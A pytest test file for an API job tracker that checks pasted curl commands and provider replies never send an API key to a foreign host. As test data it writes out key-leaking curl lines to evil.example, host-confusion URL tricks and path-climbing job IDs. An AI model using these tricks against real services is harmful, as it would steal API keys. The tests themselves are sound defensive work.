"""A key in a pasted command: offered, used or forgotten by the person's word alone, and sent to nobody else's host."""

import json
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from jobmonitor import secrets
from jobmonitor.errors import Problem
from jobmonitor.jobs import Account
from jobmonitor.wire import Request
from tests.unit.tracker.world import KEY, World, answer, in_world

PASTED = "sk_live_51Hanother_key_of_somebody"
ULID = "01JREQREQREQREQREQREQREQ00"
URL = f"https://api.figur.fit/v1/jobs/{ULID}"
CURL = f"curl -H 'Authorization: Bearer {PASTED}' {URL}"


@pytest.fixture(autouse=True)
def no_keychain(monkeypatch: pytest.MonkeyPatch) -> None:
    """This test reaches no keychain of the system's."""

    def none() -> secrets.Backend:
        raise Problem("There is no keychain here")

    monkeypatch.setattr(secrets, "_system_keychain", none)


def listen(world: World) -> list[Request]:
    """Every question that goes out."""
    asked: list[Request] = []
    world.provider.before_answer = asked.append
    return asked


def test_a_key_in_a_command_is_kept_for_a_word_and_then_becomes_an_account(tmp_path: Path) -> None:
    async def test(world: World) -> None:
        asked = listen(world)
        world.provider.job(ULID, answer("RUNNING", public_id=ULID))
        (job,) = (await world.tracker.add(CURL)).new
        assert world.tracker.pasted_keys.has(job.number)
        assert world.tracker.accounts == ()
        assert asked == []
        await world.tracker.pasted_keys.use(job.number)
        assert [(a.provider, a.label) for a in world.tracker.accounts] == [("figur", "default")]
        assert not world.tracker.pasted_keys.has(job.number)
        while not asked:
            await world.tick()
        assert asked[0].url == URL
        assert PASTED in asked[0].secret_headers["Authorization"]

    in_world(tmp_path, test)


def test_a_forgotten_key_is_gone_for_all_jobs_that_came_with_it(tmp_path: Path) -> None:
    async def test(world: World) -> None:
        other = ULID[:-1] + "1"
        first, second = (await world.tracker.add(f"{CURL}\n{CURL.replace(ULID, other)}")).new
        assert world.tracker.pasted_keys.has(first.number)
        assert world.tracker.pasted_keys.has(second.number)
        await world.tracker.pasted_keys.forget(first.number)
        assert not world.tracker.pasted_keys.has(second.number)
        with pytest.raises(Problem, match="no longer here"):
            await world.tracker.pasted_keys.use(second.number)

    in_world(tmp_path, test)


def test_the_key_is_nowhere_before_there_is_a_word(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    async def test(world: World) -> None:
        found = await world.tracker.look(CURL)
        placed = await world.tracker.place(found)
        for value in (found, placed, found.keys, *placed.new, world.tracker.jobs):
            assert PASTED not in repr(value)
        assert found.keys[0].key == PASTED

    caplog.set_level("DEBUG")
    in_world(tmp_path, test)
    assert PASTED not in caplog.text
    for file in tmp_path.rglob("*"):
        assert file.is_dir() or PASTED.encode() not in file.read_bytes()


def test_a_provider_that_says_the_key_back_is_not_believed_with_it(tmp_path: Path) -> None:
    async def test(world: World) -> None:
        world.provider.job(ULID, answer("RUNNING", message=f"for {PASTED}"))
        await world.tracker.add_account(Account("figur", key_env="KEY"))
        (job,) = (await world.tracker.add(CURL)).new
        while (kept := await world.tracker.answer(job.number)) is None:
            await world.tick()
        assert PASTED.encode() not in kept.body

    in_world(tmp_path, test)


def test_nothing_is_offered_where_the_key_is_an_accounts_already_or_the_job_is_known_by_another(tmp_path: Path) -> None:
    async def test(world: World) -> None:
        world.provider.job(ULID, answer("RUNNING"))
        await world.tracker.add_account(Account("figur", key_env="KEY"))
        (job,) = (await world.tracker.add(CURL)).new
        assert not world.tracker.pasted_keys.has(job.number)

    in_world(tmp_path, test)


def test_where_the_account_does_not_know_the_job_the_key_makes_another_account(tmp_path: Path) -> None:
    async def test(world: World) -> None:
        asked = listen(world)
        world.provider.job(ULID, answer("", 404), answer("RUNNING"))
        await world.tracker.add_account(Account("figur", key_env="KEY"))
        (job,) = (await world.tracker.add(CURL)).new
        while not world.tracker.pasted_keys.has(job.number):
            await world.tick()
        await world.tracker.pasted_keys.use(job.number)
        assert world.job(ULID).account == "account 2"
        while len(asked) < 2:
            await world.tick()
        assert KEY in asked[0].secret_headers["Authorization"]
        assert PASTED in asked[1].secret_headers["Authorization"]

    in_world(tmp_path, test)


@pytest.mark.parametrize(
    "text",
    [
        f"curl -H 'Authorization: Bearer {PASTED}' https://evil.example/v1/jobs/{ULID}",
        f"curl -H 'Authorization: Bearer {PASTED}' https://api.figur.fit.evil.example/v1/jobs/{ULID}",
        f"curl -H 'Authorization: Bearer {PASTED}' https://api.figur.fit@evil.example/v1/jobs/{ULID}",
        f"curl -H 'X-Other: Bearer {PASTED}' {URL}",
        f"curl -H 'Authorization: Bearer $FIGUR_KEY' {URL}",
        f"curl {URL}",
    ],
)
@pytest.mark.parametrize("provider", ["", "figur"])
def test_a_key_for_another_host_or_in_another_place_is_not_offered(tmp_path: Path, text: str, provider: str) -> None:
    async def test(world: World) -> None:
        for job in (await world.tracker.add(text, provider)).new:
            assert not world.tracker.pasted_keys.has(job.number)

    in_world(tmp_path, test)


UUID = "a5ecc735-c48e-43ea-a739-d42bfb19edb3"
ATTACKS = {
    "a poll address in a reply": json.dumps(
        {"id": UUID, "status": "CREATED", "urls": {"get": f"https://evil.example/api/v1/jobs/{UUID}"}}
    ),
    "a status_url in a reply": json.dumps(
        {"request_id": UUID, "status_url": f"https://evil.example/fal-ai/x/requests/{UUID}/status", "response_url": "x"}
    ),
    "a polling_url in a reply": json.dumps(
        {"id": UUID, "polling_url": f"https://evil.example/v1/get_result?id={UUID}"}
    ),
    "a link in a command": f"curl https://evil.example/v1/jobs/{ULID}",
    "a link that begins alike": f"https://api.figur.fit.evil.example/v1/jobs/{ULID}",
    "a host as a user": f"https://api.figur.fit@evil.example/v1/jobs/{ULID}",
    "an ID that climbs": json.dumps({"public_id": "../../@evil.example/x", "job_type": "X"}),
    "an ID that is an address": json.dumps({"public_id": "https://evil.example/x", "job_type": "X"}),
    "a host with a slash the wrong way": f"https://evil.example\\@api.figur.fit/v1/jobs/{ULID}",
}


HOSTS = {"waveline.ai", "api.figur.fit", "queue.fal.run", "api.bfl.ai", "api.eu.bfl.ai", "api.aetherforgeai.com"}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
@pytest.mark.parametrize("provider", ["", "waveline", "figur", "fal", "bfl"])
def test_no_host_but_the_providers_own_ever_gets_a_key(tmp_path: Path, text: str, provider: str) -> None:
    async def test(world: World) -> None:
        asked = listen(world)
        for each in ("waveline", "figur", "fal", "bfl", "aetherforge"):
            await world.tracker.add_account(Account(each, key_env="KEY"))
        world.provider.otherwise.append(answer("RUNNING"))
        placed = await world.tracker.add(text, provider)
        for job in placed.new:
            if not job.provider:
                await world.tracker.choose(job.number, job.candidates[0])
        for _ in range(10):
            await world.tick()
        assert {urlsplit(request.url).hostname for request in asked} <= HOSTS

    in_world(tmp_path, test)


def test_a_key_goes_with_its_job(tmp_path: Path) -> None:
    async def test(world: World) -> None:
        url = "https://europe-west1-gepettoai.cloudfunctions.net/v1/job/abcd"
        (job,) = (await world.tracker.add(f'curl.exe ^"{url}^" ^\r\n  --header=^"Authorization: Bearer {PASTED}^"')).new
        assert world.tracker.pasted_keys.has(job.number)
        await world.tracker.remove([job.number])
        assert not world.tracker.pasted_keys.has(job.number)

    in_world(tmp_path, test)
